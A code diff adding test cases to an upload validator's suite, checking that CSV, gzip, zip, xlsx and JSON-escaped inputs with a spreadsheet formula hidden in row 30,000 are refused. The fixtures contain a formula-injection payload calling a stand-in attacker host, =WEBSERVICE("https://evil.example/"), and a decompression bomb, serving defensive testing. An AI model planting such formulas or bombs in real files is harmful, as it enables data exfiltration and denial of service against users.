@@ -185,6 +185,29 @@ const sheet =
 const bomb = gzipSync(Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(3_000_000, '1,2\n')]));
 const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));
 
+/** 30,000 rows, of which the last alone has a formula. */
+const longTable = `a,b\n${'1,x\n'.repeat(29_999)}1,"=WEBSERVICE(""https://evil.example/"")"\n`;
+
+function workbook(rows: number): Buffer {
+  const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
+  const formula = '=WEBSERVICE(&quot;https://evil.example/&quot;)';
+  const lines = Array.from({ length: rows }, (_, at) => {
+    const row = at + 2;
+    return `<row r="${row}"><c r="A${row}"><v>1</v></c>${text(`B${row}`, at === rows - 1 ? formula : 'x')}</row>`;
+  });
+  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  const links = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const packages = 'http://schemas.openxmlformats.org/package/2006/relationships';
+  const parts = {
+    '[Content_Types].xml':
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
+    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${links}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
+    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${packages}"><Relationship Id="r1" Type="${links}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData><row r="1">${text('A1', 'a')}${text('B1', 'b')}</row>${lines.join('')}</sheetData></worksheet>`,
+  };
+  return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, Buffer.from(xml)]))));
+}
+
 const refused: [string, () => Buffer | string, number, RegExp][] = [
   ['nothing', () => '', 422, /empty/u],
   ['more than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), 413, /larger than 4 MB/u],
@@ -229,6 +252,20 @@ const refused: [string, () => Buffer | string, number, RegExp][] = [
   [
     'a packed formula',
     () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`),
+    422,
+    /spreadsheet formula/u,
+  ],
+  ['a formula in row 30,000 of a packed table', () => gzipSync(longTable), 422, /\(=WEBSERVICE\(…\)/u],
+  [
+    'a formula in row 30,000 of an archive',
+    () => Buffer.from(zipSync({ 'a.csv': Buffer.from(longTable) })),
+    422,
+    /\(=WEBSERVICE\(…\)/u,
+  ],
+  ['a formula as text in row 30,000 of a workbook', () => workbook(30_000), 422, /\(=WEBSERVICE\(…\)/u],
+  [
+    'an escaped formula',
+    () => String.raw`[{"a":"x"},{"a":"\u003dWEBSERVICE(\u0022https://evil.example/\u0022)"}]`,
     422,
     /spreadsheet formula/u,
   ],
